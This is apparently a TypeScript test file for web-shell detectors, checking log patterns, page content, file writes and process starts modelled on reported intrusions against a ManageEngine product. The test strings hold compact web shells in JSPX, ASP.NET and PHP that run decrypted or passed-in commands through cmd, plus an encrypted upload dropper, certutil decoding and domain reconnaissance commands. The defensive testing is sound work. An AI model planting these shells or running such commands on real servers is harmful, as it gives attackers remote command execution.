import { beforeAll, describe, expect, test } from 'vitest'
import { accessEvents, ordinaryVisits, type Visit } from '../../../test/access-lines.ts'
import { testGrammars } from '../../../test/grammars.ts'
import { eventOf, processStart, severityFor } from '../../../test/record-detector.ts'
import { foundBy } from '../../../test/set-detector.ts'
import type { EvidenceId, SecurityEvent, SetDetector, SyntaxParsers } from '../../model/index.ts'
import { content } from './content.ts'
import { exploitThenPage } from './exploit-then-page.ts'
import { lonePage } from './lone-page.ts'
import { scriptWritten } from './script-written.ts'
import { staticAnswers } from './static-answers.ts'
import { workerStartsShell } from './worker-starts-shell.ts'

/** Web shells that were seen in reported intrusions of this kind (AA23-144A and vendors' reports), rebuilt without their content, each beside what looks alike. */
const DAY = 24 * 60
const CLIENT = '203.0.113.9'
/** Printed with a run of blanks in one report; common enough to mean nothing alone. */
const AGENT = 'Mozilla/5.0 (Windows NT 6.1; WOW64; rv:68.0)   Gecko/20100101 Firefox/68.0'
const log = (visits: readonly Visit[]) => accessEvents([...ordinaryVisits(400, DAY), ...visits])
const worked = (page: string, sizes: readonly number[], extra: Partial<Visit> = {}): readonly Visit[] =>
  sizes.map((bytes, index) => ({ at: 900 + index, from: CLIENT, ask: `POST ${page}`, bytes, agent: AGENT, ...extra }))
const OUTPUT = [120, 4810, 310, 90_122, 700]
const strongest = async (detector: SetDetector, events: readonly SecurityEvent[]) =>
  (await foundBy(detector, events)).map(({ severity, object }) => `${severity} ${object}`)

describe('pages among those of a product, in the log', () => {
  test.each<[string, readonly Visit[], readonly string[]]>([
    [
      'a page that imitates the product, posted to and never linked',
      worked('/html/promotion/selfsdp.jspx', OUTPUT),
      ['high /html/promotion/selfsdp.jspx'],
    ],
    ['a name next to the start page', worked('/iisstart.aspx', OUTPUT), ['high /iisstart.aspx']],
    [
      'answers of one shape, encrypted both ways',
      worked('/AuditReport.jspx', [2100, 2124, 2100, 2124]),
      ['high /auditreport.jspx'],
    ],
    // look-alikes
    [
      'the product’s own page of that folder',
      ['1', '2', '3', '4'].flatMap(last =>
        worked('/html/promotion/selfservice.jsp', [4100, 4180, 4100], {
          from: `198.51.100.${last}`,
          referrer: 'https://sso.example/',
        }),
      ),
      [],
    ],
    [
      'an old browser that reads the news',
      worked('/news.php', [4000, 4031], { ask: 'GET /news.php', referrer: 'https://www.example/' }),
      [],
    ],
  ])('%s', async (_name, visits, found) => {
    expect(await strongest(lonePage, log(visits))).toEqual(found)
  })
})

describe('a back-doored library that answers under a picture', () => {
  const GIF = '/addEndpoint/html/lookup.gif'
  test.each<[string, readonly Visit[], readonly string[]]>([
    ['first the key, then commands', worked(GIF, [16, 3400, 52_000]), [`high ${GIF.toLowerCase()}`]],
    ['a picture of the product', worked(GIF, [1350, 1350], { ask: `GET ${GIF}` }), []],
  ])('%s', async (_name, visits, found) => {
    expect(await strongest(staticAnswers, log(visits))).toEqual(found)
  })
})

describe('a dropper that is not there afterwards', () => {
  const drop: Visit = { at: 898, from: CLIENT, ask: 'POST /html/error.jsp', agent: AGENT }
  const look: Visit = { at: 899, from: CLIENT, ask: 'GET /html/promotion/selfsdp.jspx', agent: AGENT }
  const gone: Visit = { at: 1300, from: '198.51.100.7', ask: 'GET /html/error.jsp', status: 404 }
  test.each<[string, readonly Visit[], readonly string[]]>([
    [
      'post, confirm, work',
      [drop, look, ...worked('/html/promotion/selfsdp.jspx', OUTPUT), gone],
      ['high /html/promotion/selfsdp.jspx'],
    ],
    [
      'the product’s error page, which everybody meets',
      [
        drop,
        ...['1', '2', '3'].map(last => ({ ...drop, from: `198.51.100.${last}` })),
        look,
        ...worked('/html/promotion/selfsdp.jspx', OUTPUT),
      ],
      [],
    ],
  ])('%s', async (_name, visits, found) => {
    expect(await strongest(exploitThenPage, log(visits))).toEqual(found)
  })
})

const wrote = (image: string, path: string) => eventOf<'file_activity'>({ kind: 'file_activity', action: 'create', image, path })
const JAVA = 'C:\\ManageEngine\\ADSelfService Plus\\jre\\bin\\java.exe'
const WEBAPP = 'C:\\ManageEngine\\ADSelfService Plus\\webapps\\adssp\\html\\promotion\\selfsdp.jspx'

let parsers: SyntaxParsers
beforeAll(async () => {
  parsers = await testGrammars()
})
const severityOfPage = (path: string, text: string) => {
  const bytes = new TextEncoder().encode(text)
  const file = {
    evidence: 'test' as EvidenceId,
    path,
    host: 'web01',
    size: bytes.length,
    encoding: 'utf-8',
    bytes,
    text,
  } as const
  const match = content.wants(file) ? content.judge(file, parsers) : undefined
  return match ? (match.severity ?? content.severity) : ''
}
const jspx = (code: string) =>
  `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:directive.page import="javax.crypto.*,javax.crypto.spec.*"/><jsp:scriptlet><![CDATA[\n${code}\n]]></jsp:scriptlet></jsp:root>`
const CIPHER =
  'Cipher c = Cipher.getInstance("AES/CBC/PKCS5Padding"); c.init(2, new SecretKeySpec(key, "AES"), new IvParameterSpec(key));'

describe('what stands in the page', () => {
  test.each([
    [
      'command words made of bytes, run by ProcessBuilder',
      'html/promotion/selfsdp.jspx',
      jspx(
        `byte[] key = new byte[16];\n${CIPHER}\nString a = new String(c.doFinal(java.util.Base64.getDecoder().decode(request.getParameter("p"))));\nString w = new String(new byte[]{99, 109, 100});\nProcess r = new ProcessBuilder(w, new String(new byte[]{47, 67}), a).start();`,
      ),
      'critical',
    ],
    [
      'encrypted path and content written',
      'html/error.jsp',
      `<%@ page import="java.io.*,javax.crypto.*,javax.crypto.spec.*" %><% byte[] key = new byte[16];\n${CIPHER}\nString p = new String(c.doFinal(java.util.Base64.getDecoder().decode(request.getParameter("path"))));\nbyte[] d = c.doFinal(java.util.Base64.getDecoder().decode(request.getParameter("content")));\nnew FileOutputStream(p).write(d);\nout.print("upload error"); %>`,
      // a sign beside others: what every site has somewhere takes files, too
      'low',
    ],
    [
      'a command shell of ASP.NET that decrypts what it is told',
      'iisstart.aspx',
      '<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">void Page_Load(object s, EventArgs e) { var a = System.Security.Cryptography.Aes.Create(); var d = a.CreateDecryptor(); byte[] b = Convert.FromBase64String(Request.Form["t"]); string c = System.Text.Encoding.UTF8.GetString(d.TransformFinalBlock(b, 0, b.Length)); var p = new ProcessStartInfo("cmd.exe", "/c " + c); p.RedirectStandardOutput = true; Response.Write(Process.Start(p).StandardOutput.ReadToEnd()); }</script>',
      'critical',
    ],
    // look-alikes
    [
      'a page that decrypts a cookie and shows it',
      'html/profile.jsp',
      `<%@ page import="javax.crypto.*,javax.crypto.spec.*" %><% byte[] key = new byte[16];\n${CIPHER}\nout.print(new String(c.doFinal(java.util.Base64.getDecoder().decode(request.getParameter("name"))))); %>`,
      '',
    ],
    [
      'a picture kept as bytes',
      'html/dot.jsp',
      '<% byte[] gif = new byte[]{71, 73, 70, 56, 57, 97}; response.getOutputStream().write(gif); %>',
      '',
    ],
    [
      'a page that starts a fixed program',
      'status.aspx',
      '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var p = new System.Diagnostics.ProcessStartInfo("C:\\\\tools\\\\version.exe"); System.Diagnostics.Process.Start(p); Response.Write(Request.QueryString["day"].Length); }</script>',
      '',
    ],
  ])('%s', (_name, path, text, severity) => {
    expect(severityOfPage(path, text)).toBe(severity)
  })
})

test('a page that could not be parsed is said to be judged by its words', () => {
  const asked = (text: string) => {
    const bytes = new TextEncoder().encode(text)
    const file = {
      evidence: 'test' as EvidenceId,
      path: 'a.php',
      host: '',
      size: bytes.length,
      encoding: 'utf-8',
      bytes,
      text,
    } as const
    content.judge(file, parsers)
    return content.unread?.(file)
  }
  const page = '<?php system($_GET["c"]);'
  expect([asked(page), asked(`${page} $a = ${'('.repeat(20_000)}1${')'.repeat(20_000)};`)]).toEqual([
    undefined,
    expect.any(String),
  ])
})

describe('how the page came there', () => {
  test.each([
    ['the product’s Java writes it', wrote(JAVA, WEBAPP), 'medium'],
    ['text decoded into a page', wrote('C:\\Windows\\System32\\certutil.exe', 'C:\\inetpub\\wwwroot\\iisstart.aspx'), 'high'],
    ['a page copied from another server', wrote('System', 'C:\\inetpub\\wwwroot\\AuditReport.aspx'), 'medium'],
    // look-alikes
    [
      'the product compiles its pages',
      wrote(JAVA, 'C:\\ManageEngine\\ADSelfService Plus\\work\\Catalina\\localhost\\ROOT\\org\\apache\\jsp\\a_jsp.jsp'),
      '',
    ],
    ['the product’s installer', wrote('C:\\Windows\\System32\\msiexec.exe', WEBAPP), 'informational'],
    ['a certificate decoded', wrote('C:\\Windows\\System32\\certutil.exe', 'C:\\certs\\site.cer'), ''],
  ])('%s', (_name, event, severity) => {
    expect(severityFor(scriptWritten, event)).toBe(severity)
  })
})

describe('what it was told to do', () => {
  const command = (commandLine: string, parentImage = JAVA) =>
    processStart({ image: 'C:\\Windows\\System32\\cmd.exe', commandLine, parentImage, user: 'NT AUTHORITY\\SYSTEM' })
  test.each([
    ['looking around under the product’s Java', command('cmd /C net group "domain admins" /domain'), 'critical'],
    ['the same under Tomcat', command('cmd /C whoami', 'C:\\tomcat\\bin\\tomcat9.exe'), 'critical'],
    [
      'text decoded',
      processStart({
        image: 'C:\\Windows\\System32\\certutil.exe',
        commandLine: 'certutil -decode a.txt b.aspx',
        parentImage: JAVA,
      }),
      'critical',
    ],
    // look-alikes
    ['an administrator at a prompt', command('cmd /C whoami', 'C:\\Windows\\explorer.exe'), ''],
    [
      'a build tool’s Java',
      processStart({
        image: 'C:\\Windows\\System32\\cmd.exe',
        commandLine: 'cmd /C whoami',
        parentImage: 'C:\\jdk\\bin\\java.exe',
        parentCommandLine: 'java -cp gradle-launcher.jar',
        user: 'NT AUTHORITY\\SYSTEM',
      }),
      '',
    ],
  ])('%s', (_name, event, severity) => {
    expect(severityFor(workerStartsShell, event)).toBe(severity)
  })
})
